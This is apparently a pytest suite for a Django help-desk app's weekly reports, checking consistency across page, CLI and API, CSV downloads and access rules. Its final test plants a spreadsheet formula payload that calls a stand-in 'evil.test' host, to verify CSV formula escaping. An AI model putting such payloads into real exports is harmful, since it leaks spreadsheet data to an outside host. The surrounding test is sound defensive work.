"""One computation, several renderers: the page, the CLI, the e-mail and the API agree to
the minute; CSV of every table; who may see reports."""

from __future__ import annotations

import csv
import io
import json
from html import unescape

import pytest
import time_machine
from django.core.management import call_command
from django.test import Client

from sunrelay.api.tokens import create_token
from sunrelay.reports import render, tables, weekly
from tests.reports.conftest import NOW, W47

pytestmark = pytest.mark.django_db
PAGE = "/desk/reports/weekly/"


@pytest.fixture(autouse=True)
def _frozen_clock():
    with time_machine.travel(NOW, tick=False):
        yield


def api(user):
    _, raw = create_token(user, "tests")
    return Client(headers={"Authorization": f"Bearer {raw}"})


def cli(*args) -> str:
    out = io.StringIO()
    call_command("report", *args, stdout=out)
    return out.getvalue()


def test_page_cli_email_and_api_agree(client, agent, desk_week, settings):
    from_cli = json.loads(cli("weekly", "--week", "2026-W47", "--format", "json"))
    response = api(agent).get("/api/v1/reports/weekly", {"week": "2026-W47"})
    assert response.status_code == 200
    assert response.json() == from_cli
    client.force_login(agent)
    page = unescape(client.get(PAGE, {"week": "2026-W47"}).content.decode())
    markdown = cli("weekly", "--week", "2026-W47", "--format", "md")
    document = unescape(cli("weekly", "--week", "2026-W47", "--format", "html"))
    for sentence in from_cli["summary"]:
        assert sentence in page and sentence in markdown and sentence in document
    # The same durations in every table, to the minute; breached tickets by number.
    assert "2 h" in page and "| First reply | 1 | 2 h |" in markdown
    stuck = desk_week["t4"].pk
    assert f'<a href="/desk/tickets/{stuck}/">#{stuck}</a>' in page
    assert f"| #{stuck} | Export stuck |" in markdown
    assert f'href="{settings.BASE_URL}/desk/tickets/{stuck}/"' in document


def test_the_summary_of_the_hand_built_week(desk_week):
    report = weekly.compute(W47)
    assert report.summary[:2] == [
        "Answered 1 of 3 tickets received (33 %), as many as the week before.",
        "Average first reply 2 h (previous 6 h); Enterprise and Partner 2 h against a 4 h target "
        "(1 of 1 within target).",
    ]
    assert report.summary[7] == "1 hand-off between regions (previous 0): Madrid → New York 1."


def test_the_page_has_filters_charts_and_no_script_in_the_report(client, lead, desk_week):
    client.force_login(lead)
    response = client.get(PAGE, {"week": "2026-W47", "tier": "enterprise"})
    assert response.status_code == 200
    html = response.content.decode()
    body = html[html.index('class="report-summary"') :]
    assert body.count("<svg") == 3 and "<script" not in body
    assert 'name="week" value="2026-W47"' in html and "Enterprise tier" in html
    assert "?week=2026-W46&amp;tier=enterprise" in html  # the previous week, same filters


def test_a_bad_week_is_an_error_on_the_page_and_in_the_api(client, agent, desk_week):
    client.force_login(agent)
    response = client.get(PAGE, {"week": "2026-W99"})
    assert response.status_code == 400 and "is not a week of 2026" in response.content.decode()
    assert api(agent).get("/api/v1/reports/weekly", {"tier": "gold"}).status_code == 422
    future = api(agent).get("/api/v1/reports/weekly", {"week": "2026-W50"})
    assert (future.status_code, future.json()) == (422, {"detail": "2026-W50 has not begun yet."})


def test_every_table_downloads_as_csv(client, agent, desk_week):
    client.force_login(agent)
    report = weekly.compute(W47)
    names = [t.name for t in tables.all_tables(report)]
    assert {"summary", "times", "sla", "breaches", "first_reply_by_agent", "coverage"} <= set(names)
    # 21: three times by seven dimensions; 3: customer satisfaction (groups, weeks, ratings);
    # 1: the feedback themes that grew
    assert len(names) == len(set(names)) == 14 + 3 + 1 + 21
    response = client.get(f"{PAGE}csv/first_reply_by_tier/", {"week": "2026-W47"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert 'filename="sunrelay-2026-W47-first_reply_by_tier.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows == [
        {
            "key": "Enterprise", "n": "1", "business_mean_min": "120", "business_median_min": "120",
            "business_p90_min": "120", "calendar_mean_min": "120", "calendar_median_min": "120",
            "calendar_p90_min": "120", "previous_mean_min": "360", "change_min": "-240",
            "within_target": "1 of 1",
        }
    ]  # fmt: skip
    assert client.get(f"{PAGE}csv/nothing/").status_code == 404
    from_api = api(agent).get(
        "/api/v1/reports/weekly/csv/first_reply_by_tier", {"week": "2026-W47"}
    )
    assert from_api.content == response.content


def test_markdown_download_matches_the_cli(client, agent, desk_week):
    client.force_login(agent)
    response = client.get(f"{PAGE}report.md", {"week": "2026-W47"})
    assert response.content.decode() == cli("weekly", "--week", "2026-W47")


@pytest.mark.parametrize("who", ["sales", "outsider"])
def test_sales_and_people_without_a_working_role_are_refused(request, client, desk_week, who):
    user = request.getfixturevalue(who)
    client.force_login(user)
    assert client.get(PAGE).status_code == 403
    assert client.get(f"{PAGE}csv/summary/").status_code == 403
    assert api(user).get("/api/v1/reports/weekly").status_code == 403
    assert 'href="/desk/reports/weekly/"' not in client.get("/desk/").content.decode()


def test_anonymous_visitors_log_in_first(client, desk_week):
    assert client.get(PAGE)["Location"] == "/login/?next=/desk/reports/weekly/"
    assert Client().get("/api/v1/reports/weekly").status_code == 401


def test_staff_who_work_tickets_see_the_link(client, agent):
    client.force_login(agent)
    assert 'href="/desk/reports/weekly/"' in client.get("/desk/").content.decode()


def test_json_is_plain_data(desk_week):
    data = json.loads(render.as_json(weekly.compute(W47)))
    assert data["start"] == "2026-11-16T00:00:00Z"
    assert data["first_reply"]["business"] == {"n": 1, "mean": 120.0, "median": 120.0, "p90": 120.0}
    assert data["answered"]["share"] == pytest.approx(1 / 3)


def test_csv_cells_that_start_like_formulas_are_escaped(client, agent, desk_week):
    from sunrelay.desk.models import Ticket

    stuck = desk_week["t4"]
    formula = '=HYPERLINK("https://evil.test/?"&A1,"Export stuck")'
    Ticket.objects.filter(pk=stuck.pk).update(subject=formula)
    client.force_login(agent)
    response = client.get(f"{PAGE}csv/breaches/", {"week": "2026-W47"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    [row] = [r for r in rows if r["ticket"] == str(stuck.pk)]
    assert row["subject"] == "'" + formula
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
